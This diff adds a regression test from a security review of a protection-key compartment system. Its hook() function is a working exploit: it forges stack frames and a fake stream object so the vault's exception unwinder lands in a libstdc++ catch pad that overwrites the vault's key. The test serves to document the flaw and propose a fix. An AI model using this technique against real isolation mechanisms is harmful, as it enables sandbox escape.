@@ -1,0 +1,170 @@
+// Review 64a, attacker model A (key-0 stores only; made here by the
+// program's callback, hook, as a second thread could): the vault's own
+// unwinder, steered by words on the default domain's stack, lands in a
+// catch of libstdc++ (shared code the pass did not compile: no hand-over,
+// no rights check) with the vault's rights and registers and a stack of
+// the attacker's choice, and that catch writes the vault's key.
+// What: review 62's check (runtime/unwind-copy.c, put_rule_checked) stops
+// a walk with a compartment's rights that comes back into the
+// compartment's stack arena; a frame whose CFA stays out of the arena is
+// taken, though past the entry trampoline its return address and saved
+// registers are key-0 words. A return address there that names a call
+// site of libstdc++ inside a try with catch (...) makes that frame the
+// handler: the unwinder installs it with the vault's PKRU, rbx read from
+// the key-0 stack, rsp on the key-0 stack. libstdc++'s catch then runs
+// with the vault's rights on what the attacker wrote.
+// How: main calls d2, which calls d1 (honest code, frame pointers, d1
+// keeps a pointer in rbx and saves its caller's rbx); d1 calls the vault's
+// entry vault_check, which throws E{42}. Before, hook stores into d1's
+// frame and the frames above it (key-0 stack): d1's return address ->
+// the return address of the call of num_put::put in
+// std::ostream::_M_insert<long> (libstdc++.so.6, inside try { } catch
+// (...) { this->_M_setstate(badbit); }); d1's saved rbx -> a fake ostream
+// in key-0 memory whose virtual base offset makes its basic_ios's
+// _M_streambuf_state lie at vault_key + 11; the sentry's stream (the
+// landing rsp + 8) -> a harmless fake; the word _M_insert returns
+// through -> landed(). The unwinder (vault's rights): entry trampoline ->
+// d1 (honest CFA, out of the arena) -> _M_insert at that call (CFA rsp +
+// 80, out of the arena), whose LSDA's catch (...) takes E. The catch's
+// _M_setstate ORs 1 into the int at vault_key + 11 ("VAUL": 'V' becomes
+// 'W') with the vault's rights; _M_insert then returns into landed(),
+// still with the vault's rights, which tells thread 2 (default rights),
+// which asks the vault whether its key is intact.
+// Control: no stores: the same throw comes out through d1, d2 into main's
+// catch with the default domain's rights: "caught E 42", key intact.
+// The test checks the libstdc++ bytes it relies on first (Debian's
+// libstdc++.so.6.0.30): another build says so and stops.
+// Seen in the guest (LLVM 19, -O2 -fno-omit-frame-pointer, filter on) on
+// main at 56847a0: control "caught E 42 in main", "vault key intact";
+// attack "landed() reached with the vault's rights", "ATTACK SUCCEEDED:
+// the vault's key was overwritten", 3 of 3.
+// Suggested fix: a walk with a compartment's rights that leaves the
+// compartment's frames (past an entry trampoline) should not install a
+// context outside the compartment's own code with its rights: stop the
+// walk there (as for a CFA back in the arena), or have the copy of an FDE
+// whose pc lies past an entry trampoline name no personality routine
+// (nothing runs there with the compartment's rights) and let the entry
+// trampoline hand the exception over to the caller's rights (design.md,
+// "Exceptions": the default domain's pads already gate).
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -fno-omit-frame-pointer %s -o %t -lpthread
+// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
+// RUN: %run %t > %t.out 2>&1 || true
+// RUN: FileCheck %s < %t.out
+// CONTROL: caught E 42 in main
+// CONTROL: vault key intact
+// CHECK-NOT: ATTACK SUCCEEDED
+// CHECK: done
+#include "Inputs/vault-key.h"
+#include <dlfcn.h>
+#include <pthread.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <unistd.h>
+
+/* Throws unless told not to (so callers' code after it stays). */
+extern "C" BULKHEAD_ENTRY(vault) void vault_check(long code, int ok) {
+  if (!ok)
+    throw E{code};
+}
+static volatile int ok; /* 0 */
+
+static int attack = 1;
+static char *d1_fp;     /* d1's frame pointer: key-0 stack */
+static uintptr_t site;  /* libstdc++: after the call in the try */
+static uintptr_t fake_os[8], fake_vt[4]; /* the catch's `this` */
+static uintptr_t calm_os[8], calm_vt[4]; /* the sentry's stream */
+static volatile int arrived;
+long sink; /* key 0, external: the store stays */
+
+/* Where _M_insert returns to after its catch: still the vault's rights.
+ * Its stack is 8 off a call's alignment; it only tells thread 2. */
+extern "C" __attribute__((noinline, force_align_arg_pointer)) void
+landed(void) {
+  __atomic_store_n(&arrived, 1, __ATOMIC_SEQ_CST);
+  for (;;)
+    __asm__ volatile("pause");
+}
+
+/* Thread 2, the default domain's rights: reports once landed() ran. */
+static void *watch(void *) {
+  while (!__atomic_load_n(&arrived, __ATOMIC_SEQ_CST))
+    usleep(1000);
+  printf("landed() reached with the vault's rights\n");
+  report(0, 0);
+  printf("done\n");
+  _exit(0);
+}
+
+/* The attacker's stores (a second thread could make them). d1_fp + 16 is
+ * the landing rsp: _M_insert reads its sentry's stream at + 8, pops six
+ * registers after + 0x18, then returns through + 0x48. */
+static __attribute__((noinline)) void hook(void) {
+  if (!attack)
+    return;
+  /* basic_ios at this + *(vptr - 24); its _M_streambuf_state at + 0x20 */
+  fake_vt[3] = 0;
+  fake_os[0] = (uintptr_t)&fake_vt[3];
+  fake_vt[0] = (uintptr_t)(vault_key + 11 - 0x20) - (uintptr_t)fake_os;
+  fake_os[0] = (uintptr_t)&fake_vt[3];
+  calm_vt[0] = 0; /* its basic_ios is itself: flags 0, no unitbuf */
+  calm_os[0] = (uintptr_t)&calm_vt[3];
+  calm_vt[3] = 0;
+  uintptr_t *fp = (uintptr_t *)d1_fp;
+  fp[1] = site;                   /* d1's return address */
+  fp[-1] = (uintptr_t)fake_os;    /* d1's saved rbx: rbx at the catch */
+  fp[3] = (uintptr_t)calm_os;     /* landing rsp + 8 */
+  fp[2 + 9] = (uintptr_t)&landed; /* landing rsp + 0x48 */
+}
+
+/* Honest default-domain code with frame pointers: d1 keeps s in rbx. */
+extern "C" __attribute__((noinline)) void d1(long *s) {
+  long *keep = s;
+  d1_fp = (char *)__builtin_frame_address(0);
+  hook();
+  vault_check(42, ok);
+  sink = *keep;
+}
+
+extern "C" __attribute__((noinline)) void d2(long *s) {
+  d1(s);
+  __asm__ volatile("");
+}
+
+/* The call of num_put::put in std::ostream::_M_insert<long>, whose
+ * catch (...) pad calls _M_setstate on `this` (rbx), as in Debian's
+ * libstdc++.so.6.0.30. */
+static int find_site(void) {
+  const uint8_t *f =
+      (const uint8_t *)dlsym(RTLD_DEFAULT, "_ZNSo9_M_insertIlEERSoT_");
+  static const uint8_t call[] = {0xff, 0x50, 0x18};             /* +0x77 */
+  static const uint8_t out[] = {0x48, 0x83, 0xc4, 0x18};        /* +0xcc */
+  static const uint8_t pad[] = {0x48, 0x8b, 0x03, 0xbe, 0x01};  /* +0x1d1 */
+  if (!f || memcmp(f + 0x77, call, 3) || memcmp(f + 0xcc, out, 4) ||
+      memcmp(f + 0x1d1, pad, 5))
+    return 0;
+  site = (uintptr_t)f + 0x7a;
+  return 1;
+}
+
+int main(int argc, char **argv) {
+  setvbuf(stdout, NULL, _IONBF, 0);
+  if (argc > 1 && !strcmp(argv[1], "control"))
+    attack = 0;
+  if (!find_site()) {
+    printf("error: not the libstdc++ this test was written for\n");
+    return 2;
+  }
+  pthread_t t;
+  pthread_create(&t, NULL, watch, NULL);
+  long status = 0;
+  try {
+    d2(&status);
+  } catch (E &e) {
+    printf("caught E %ld in main\n", e.v);
+  }
+  report(0, status);
+  printf("done\n");
+  return 0;
+}
